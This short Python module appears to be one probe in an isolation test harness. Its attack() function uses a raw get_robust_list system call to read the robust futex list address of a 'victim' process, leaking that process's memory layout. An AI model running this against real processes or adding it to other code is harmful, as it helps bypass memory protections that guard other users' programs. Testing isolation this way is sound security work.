"""asks for an address in the victim by get_robust_list"""

import ctypes
import os

# Python's lock is kept during a call, so that a clone in it is safe.
LIBC = ctypes.PyDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def syscall(number, *values):
    """A system call by its number, which raises OSError as Python's own wrappers do."""
    if os.uname().machine != "x86_64":
        raise OSError("the numbers here are x86_64's")
    values = [ctypes.c_long(value) if isinstance(value, int) else value for value in values]
    result = LIBC.syscall(ctypes.c_long(number), *values)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack():
    head, size = ctypes.c_ulong(), ctypes.c_ulong()
    syscall(274, TARGETS["victim"], ctypes.byref(head), ctypes.byref(size))
    reached(f"the victim's list is at {head.value:#x}")
